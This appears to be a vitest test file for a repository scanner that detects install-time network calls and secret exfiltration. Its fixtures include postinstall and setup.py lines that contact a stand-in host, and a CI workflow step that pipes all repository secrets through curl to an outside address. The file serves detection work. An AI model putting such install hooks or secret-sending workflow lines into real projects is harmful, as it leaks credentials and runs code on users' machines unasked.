import { describe, expect, test } from "vitest";
import { brief, findingsIn } from "../analyse-files.ts";

const manifest = (scripts: Readonly<Record<string, string>>): string => JSON.stringify({ name: "x", scripts }, null, 2);
const SENDS = 'await fetch("https://stats.some-vendor.example/i", { method: "POST", body: process.version });\n';

describe("what runs on installation and contacts somebody", () => {
  test.each([
    [
      "in the script itself",
      { "package.json": manifest({ postinstall: "curl -s https://stats.some-vendor.example/i" }) },
      "package.json:4",
    ],
    [
      "a clone",
      { "package.json": manifest({ preinstall: "git clone https://github.com/some-user/y" }) },
      "package.json:4",
    ],
    [
      "in the file that the script starts",
      { "package.json": manifest({ postinstall: "node ./lib/setup.mjs" }), "lib/setup.mjs": SENDS },
      "lib/setup.mjs:1",
    ],
    [
      "in a nested package",
      { "mcp/package.json": manifest({ install: "node setup" }), "mcp/setup.js": SENDS },
      "mcp/setup.js:1",
    ],
    [
      "setup.py",
      { "setup.py": 'import urllib.request\nurllib.request.urlopen("https://stats.some-vendor.example/i")\n' },
      "setup.py:2",
    ],
  ])("%s", async (_name, files, place) => {
    const expected = `supply-chain/install-hook medium medium ${place}`;
    expect([...new Set(await brief(files, "supply-chain/install-hook"))]).toEqual([expected]);
  });

  test.each([
    ["called by hand", { "package.json": manifest({ fetch: "node setup.mjs" }), "setup.mjs": SENDS }],
    ["builds only", { "package.json": manifest({ prepare: "tsc -p ." }) }],
    [
      "another file contacts",
      {
        "package.json": manifest({ postinstall: "node setup.mjs" }),
        "setup.mjs": "console.log(1);\n",
        "run.mjs": SENDS,
      },
    ],
  ])("not: %s", async (_name, files) => {
    expect(await brief(files, "supply-chain/install-hook")).toEqual([]);
  });
});

const workflow = (env: string, run: string): string =>
  `on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          ALL: ${env}\n        run: ${run}\n`;

test("the secrets of a repository that a workflow sends are secrets", async () => {
  const sends = 'echo "$ALL" | curl -s -d @- https://warm-up.some-host.example/c';
  const leak = await findingsIn({ ".github/workflows/ci.yml": workflow("${{ toJSON(secrets) }}", sends) });
  expect(leak.map(({ id, confidence, at }) => `${id} ${confidence} ${at.line}`)).toContain(
    "exfiltration/secret-to-stranger high 8",
  );
  const plain = await findingsIn({ ".github/workflows/ci.yml": workflow("${{ github.sha }}", sends) });
  expect(plain).toEqual([]);
});
